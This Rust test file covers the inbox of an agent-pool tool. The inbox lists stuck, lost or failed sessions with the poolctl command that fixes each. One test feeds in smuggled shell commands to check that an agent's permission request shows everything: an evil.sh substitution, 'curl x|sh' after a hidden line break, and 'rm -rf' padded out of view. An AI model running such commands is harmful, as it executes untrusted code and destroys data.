//! The inbox.

use pool::lock::LockTable;
use pool::prompt::{self, Blocked, Prompts};
use pool::worker::Registration;
use pool::{QueueRules, Volatile, inbox};
use protocol::policy::{Budget, Policy, RestartPolicy};
use protocol::reply::InboxItem;
use protocol::{
    Breaker, Epoch, Event, GeneratorId, Lifecycle, MessageId, MessageState, OpId, Reason, Session,
    SessionRef, Timestamp,
};

use crate::queue::{self, asked};
use crate::stage::{Stage, signal};
use crate::turn::hosts;
use crate::world::{World, server};

fn kinds(stage: &Stage, why: &Blocked) -> Vec<(String, String)> {
    told(stage, why, false)
}

fn told(stage: &Stage, why: &Blocked, is_worked: bool) -> Vec<(String, String)> {
    let mut volatile = Volatile::new(LockTable::new(Epoch(1)), stage.now());
    volatile.prompts.block(stage.id, why.clone());
    if is_worked {
        volatile.workers.connected(1, None, stage.now());
        let registration = Registration {
            id: GeneratorId(1),
            session: Some(stage.id),
            scope: SessionRef::from(stage.id).into(),
            kinds: Vec::new(),
        };
        volatile.workers.register(1, registration);
    }
    let items = inbox::items(stage.pool(), &volatile, &stage.rules, stage.now());
    items.into_iter().map(|item| (item.kind, item.next)).collect()
}

/// The text of the item of an agent that asks whether it may run a command.
fn asked_for(command: &str) -> String {
    let mut stage = Stage::new("claude");
    stage.says(signal::prompt());
    stage.says(signal::wants(command, 60_000));
    let volatile = Volatile::new(LockTable::new(Epoch(1)), stage.now());
    let mut items = inbox::items(stage.pool(), &volatile, &stage.rules, stage.now());
    assert_eq!(items.len(), 1, "{items:?}");
    items.remove(0).text
}

#[test]
fn a_request_is_listed_with_all_that_would_be_allowed() {
    let command = "API_TOKEN=$(sh<evil.sh) npm test";
    assert_eq!(asked_for(command), format!("Bash: {command}"));
    assert_eq!(asked_for("npm test\ncurl x|sh"), "Bash: npm test\ncurl x|sh", "a line end is no blank");
    let long = asked_for(&format!("npm test #{}; rm -rf x", " ".repeat(400)));
    assert!(long.starts_with("Bash: npm test #  ") && long.len() <= 300, "{long}");
    assert!(long.ends_with("... (166 more bytes in `poolctl show s`)"), "{long}");
}

/// No reason that a person could do anything about.
fn idle() -> Blocked {
    Blocked::for_now("")
}

fn kind(stage: &Stage, why: &Blocked) -> Vec<String> {
    kinds(stage, why).into_iter().map(|(kind, _)| kind).collect()
}

#[test]
fn a_prompt_that_nothing_confirms_is_told_after_half_a_minute() {
    let mut stage = Stage::new("claude");
    let id = stage.typed();
    stage.pass(29_999);
    assert_eq!(kind(&stage, &idle()), [""; 0]);
    stage.pass(1);
    let name = stage.session().name.to_string();
    let next = format!("poolctl queue resolve {name} {id} --as 'done|retry|dead'");
    assert_eq!(kinds(&stage, &idle()), [("unconfirmed".to_owned(), next)]);
}

#[test]
fn a_prompt_that_only_a_person_lets_go_is_told_after_half_a_minute() {
    let mut stage = Stage::new("claude");
    let prompt = stage.send();
    stage.pass(29_999);
    let draft = Blocked::by_terminal("its composer holds text: \"half\"");
    assert_eq!(kind(&stage, &draft), [""; 0]);
    stage.pass(1);
    assert_eq!(kind(&stage, &draft), ["held_back"]);
    let busy = Blocked::for_now("its agent is busy (hook)");
    assert_eq!(kind(&stage, &busy), [""; 0], "it goes on by itself");
    let too_long = Blocked::by_text(prompt, "it has a line of 5000 bytes");
    let next = format!("poolctl queue cancel {} {prompt}", stage.session().name);
    assert_eq!(kinds(&stage, &too_long), [("held_back".to_owned(), next)], "nothing to do at its terminal");
    let cancelled = Blocked::by_text(MessageId(prompt.0 + 1), "it has a line of 5000 bytes");
    assert_eq!(kind(&stage, &cancelled), [""; 0], "another prompt is the next one");
}

#[test]
fn what_is_started_no_more_by_itself_is_told() {
    let mut stage = Stage::new("claude");
    let budget = Budget { exhausted: true, ..Budget::default() };
    stage.world.emit(Event::BudgetChanged { session: stage.session().id, budget });
    assert_eq!(kind(&stage, &idle()), ["exhausted"]);
}

#[test]
fn who_waits_for_a_slot_that_nobody_gives_away_is_told_after_ten_minutes() {
    let mut stage = Stage::new("claude");
    let parked = Event::SessionParked { session: stage.id, reason: Reason::Parked, exit: None };
    stage.world.emit(parked);
    stage.send();
    stage.pass(599_999);
    assert_eq!(kind(&stage, &idle()), [""; 0]);
    stage.pass(1);
    assert_eq!(kind(&stage, &idle()), ["slot"]);
}

#[test]
fn messages_that_no_worker_takes_are_told_after_ten_minutes() {
    let mut stage = Stage::new("claude");
    let (op, send) = (OpId::Named("one".to_owned()), asked(stage.id, "observation"));
    queue::send(&mut stage.world, &QueueRules::default(), &send, &op).unwrap();
    stage.pass(599_999);
    assert_eq!(kind(&stage, &idle()), [""; 0]);
    stage.pass(1);
    let next = format!("poolctl work {} --kind observation -- …", stage.session().name);
    assert_eq!(kinds(&stage, &idle()), [("worker".to_owned(), next)]);
    let next = format!("poolctl generators {}", stage.session().name);
    assert_eq!(told(&stage, &idle(), true), [("worker".to_owned(), next)], "its worker claims nothing");
}

/// All items of a pool.
fn items(world: &World) -> Vec<InboxItem> {
    let now = Timestamp(world.now);
    inbox::items(&world.pool, &Volatile::new(LockTable::new(Epoch(1)), now), &QueueRules::default(), now)
}

#[test]
fn what_was_lost_with_its_server_is_one_line_with_what_brings_it_back() {
    let mut world = World::default();
    let ids: Vec<_> =
        ["a", "b", "c", "d"].into_iter().zip(1..).map(|(name, n)| world.live(name, server(1), n)).collect();
    let lose = |world: &mut World, n: usize| {
        world.emit(Event::SessionLost { session: ids[n], reason: Reason::ServerGone, exit: None });
        items(world)
    };
    let [one] = &lose(&mut world, 0)[..] else { panic!("{:?}", items(&world)) };
    assert_eq!((one.kind.as_str(), one.next.as_str()), ("lost", "poolctl restore a"));
    lose(&mut world, 1);
    let [all] = &lose(&mut world, 2)[..] else { panic!("{:?}", items(&world)) };
    assert_eq!((all.kind.as_str(), all.next.as_str()), ("lost", "poolctl restore --all"));
    assert!(all.text.starts_with("3 sessions were lost") && all.text.ends_with(": a, b, c"), "{all:?}");
    // Sessions that start by themselves wait for nobody.
    for event in pool::session::restore_all(&world.pool, std::time::Duration::ZERO, Timestamp(world.now)) {
        world.emit(event);
    }
    assert_eq!(items(&world), []);
}

#[test]
fn what_a_copy_of_a_pool_does_not_start_by_itself_is_told_once() {
    for restart in [RestartPolicy::OnFailure, RestartPolicy::Always] {
        let mut world = World::default();
        let id = world.live("a", server(1), 1);
        let lost = Session {
            lifecycle: Lifecycle::Lost,
            reason: Some(Reason::DatabaseReplaced),
            policy: Policy { restart, ..Policy::default() },
            budget: Budget { exhausted: true, ..Budget::default() },
            incarnation: None,
            ..world.pool.session(id).unwrap().clone()
        };
        let host = Session { worker: Some(Box::new(hosts::spec("build"))), ..lost.clone() };
        let (lost, host) =
            ((lost, "lost", "poolctl restore a"), (host, "exhausted", "poolctl worker start build"));
        for (session, kind, next) in [lost, host] {
            world.emit(Event::SessionCreated(Box::new(session)));
            let items = items(&world);
            let told: Vec<_> = items.iter().map(|item| (item.kind.as_str(), item.next.as_str())).collect();
            assert_eq!(told, [(kind, next)], "{restart:?}");
        }
    }
}

#[test]
fn a_host_that_was_kept_from_its_start_is_started_as_its_worker() {
    for reason in [Reason::NameTaken, Reason::TmuxFailed] {
        let mut world = World::default();
        let id = world.live("a", server(1), 1);
        let host = Session {
            lifecycle: Lifecycle::Failed,
            reason: Some(reason),
            worker: Some(Box::new(hosts::spec("build"))),
            incarnation: None,
            incarnations: 2,
            ..world.pool.session(id).unwrap().clone()
        };
        world.emit(Event::SessionCreated(Box::new(host)));
        let items = items(&world);
        let told: Vec<_> = items.iter().map(|item| (item.kind.as_str(), item.next.as_str())).collect();
        assert_eq!(told, [("failed", "poolctl worker start build")], "{reason:?}");
    }
}

#[test]
fn a_session_that_failed_to_start_is_told_while_prompts_wait_for_it() {
    for (reason, next) in [
        (Reason::NameTaken, "poolctl rename s NAME && poolctl restart NAME"),
        (Reason::TmuxFailed, "poolctl restart s"),
    ] {
        let mut stage = Stage::new("claude");
        stage.is(Lifecycle::Failed, Some(reason));
        assert_eq!(kind(&stage, &idle()), [""; 0], "nothing waits for it");
        stage.is(Lifecycle::Parked, Some(Reason::Parked));
        stage.send();
        stage.is(Lifecycle::Failed, Some(reason));
        let told = || vec![("failed".to_owned(), next.to_owned())];
        assert_eq!(kinds(&stage, &idle()), told());
        // That it is tried again by itself does not remove the cause.
        let budget = Budget {
            due_at: Some(stage.now().after(std::time::Duration::from_secs(60))),
            ..Budget::default()
        };
        stage.world.emit(Event::BudgetChanged { session: stage.id, budget });
        assert_eq!(kinds(&stage, &idle()), told());
        let budget = Budget { exhausted: true, ..Budget::default() };
        stage.world.emit(Event::BudgetChanged { session: stage.id, budget });
        assert_eq!(kinds(&stage, &idle()), [("exhausted".to_owned(), next.to_owned())], "told once");
    }
}

#[test]
fn a_session_that_ran_before_and_cannot_be_set_up_again_is_told() {
    let mut stage = Stage::new("claude");
    stage.is(Lifecycle::Failed, Some(Reason::Setup));
    assert_eq!(kind(&stage, &idle()), [""; 0], "whoever made it was told");
    stage.change(|s| s.incarnations = 2);
    assert_eq!(kinds(&stage, &idle()), [("failed".to_owned(), "poolctl restart s".to_owned())]);
}

#[test]
fn a_session_that_fails_to_start_each_time_is_told_from_the_fifth_failure_on() {
    let told = |reason, failures| {
        let mut stage = Stage::new("claude");
        stage.is(Lifecycle::Failed, Some(reason));
        let budget = Budget { failures, due_at: Some(stage.now()), ..Budget::default() };
        stage.world.emit(Event::BudgetChanged { session: stage.id, budget });
        kinds(&stage, &idle())
    };
    for reason in [Reason::ExecFailed, Reason::Setup] {
        assert_eq!(told(reason, 4), []);
        assert_eq!(told(reason, 5), [("failed".to_owned(), "poolctl restart s".to_owned())]);
    }
}

#[test]
fn a_prompt_that_only_a_person_can_move_on_is_named_with_what_to_do() {
    let mut stage = Stage::new("claude");
    let id = stage.typed();
    let mut prompts = Prompts::default();
    let left =
        |stage: &Stage, prompts: &Prompts| prompt::left_to_person(stage.pool(), prompts, stage.session());
    assert_eq!(left(&stage, &prompts), None, "its agent may confirm it");
    prompts.leave_to_person(stage.id, id);
    let (which, why) = left(&stage, &prompts).unwrap();
    assert!(
        which == id && why.contains("nothing confirms it") && why.contains("poolctl queue resolve s "),
        "{why}"
    );
    stage.moves(id, MessageState::InDoubt);
    let (which, why) = left(&stage, &Prompts::default()).unwrap();
    assert!(which == id && why.contains("is in doubt") && why.contains("poolctl queue resolve s "), "{why}");
    stage.moves(id, MessageState::Accepted);
    assert_eq!(left(&stage, &prompts), None, "its agent has it");
}

#[test]
fn each_kind_that_is_held_back_is_told_until_none_of_its_messages_is_left() {
    let mut stage = Stage::new("claude");
    let (session, since) = (stage.id, stage.now());
    let mut ids = Vec::new();
    for kind in ["a", "b"] {
        let (op, send) = (OpId::Named(kind.to_owned()), asked(session, kind));
        ids.push(queue::send(&mut stage.world, &QueueRules::default(), &send, &op).unwrap());
        let breaker = Breaker { failures: 1, opened_at: Some(since), ..Breaker::default() };
        stage.world.emit(Event::BreakerChanged { session, kind: kind.to_owned(), breaker, turned: true });
    }
    let name = stage.session().name.to_string();
    let failing = |kind: &str| ("failing".to_owned(), format!("poolctl queue retry {name} --kind {kind}"));
    assert_eq!(kinds(&stage, &idle()), [failing("a"), failing("b")]);
    let cancelled = pool::queue::cancel(stage.pool(), ids[0], since).unwrap();
    stage.world.emit_all(cancelled);
    assert_eq!(kinds(&stage, &idle()), [failing("b")]);
    stage.moves(ids[1], MessageState::Dead);
    let dead = failing("b --dead");
    assert_eq!(kinds(&stage, &idle()), [dead], "it can be tried again, and none waits");
    stage.world.emit(Event::MessageForgotten { id: ids[1], session });
    assert_eq!(kinds(&stage, &idle()), []);
    assert_eq!(stage.pool().held_back().count(), 0);
}
